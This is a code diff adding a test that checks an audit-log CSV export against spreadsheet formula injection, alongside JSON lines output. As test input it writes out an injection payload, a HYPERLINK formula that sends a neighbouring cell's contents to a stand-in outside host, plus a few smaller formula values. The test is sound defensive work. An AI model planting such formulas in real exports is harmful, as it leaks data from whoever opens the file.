@@ -246,6 +246,29 @@ def test_exports_in_csv_and_json_lines_hold_every_matching_entry(
         list(search.export(iter([]), "xml"))
 
 
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
+    sessions: sessionmaker[Session],
+) -> None:
+    """A caseworker types the case reference (and a 422's detail lands in the reason):
+    an auditor opening the export in a spreadsheet must not run what they typed."""
+    typed = '=HYPERLINK("http://x.example/?"&B2,"case")'
+    with transaction(sessions) as s:
+        audit.append(s, log.decision(1, case_ref=typed, reason="+1+2"), at=datetime.now(UTC))
+        audit.append(s, log.decision(2, case_ref="@SUM(A1)", reason="-3"), at=datetime.now(UTC))
+    with sessions() as s:
+        csv_text = "".join(search.export(search.iter_entries(s, search.Filters()), "csv"))
+        jsonl = "".join(search.export(search.iter_entries(s, search.Filters()), "jsonl"))
+
+    rows = list(csv.DictReader(io.StringIO(csv_text)))
+    cells = [v for row in rows for v in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert [(r["case_ref"], r["reason"]) for r in rows] == [
+        ("'" + typed, "'+1+2"),
+        ("'@SUM(A1)", "'-3"),
+    ]
+    assert json.loads(jsonl.splitlines()[0])["case_ref"] == typed  # JSON keeps it as it is
+
+
 # --- anomaly flags --------------------------------------------------------------------------
 
 
